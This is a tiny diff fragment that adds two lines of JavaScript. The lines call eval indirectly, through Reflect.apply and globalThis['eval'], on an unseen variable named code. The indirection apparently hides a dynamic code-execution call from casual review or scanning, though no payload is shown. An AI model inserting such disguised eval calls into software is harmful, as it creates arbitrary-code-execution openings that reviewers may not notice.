@@ -1,0 +1,2 @@
+const { apply } = Reflect;
+apply(globalThis["eval"], undefined, [code]);
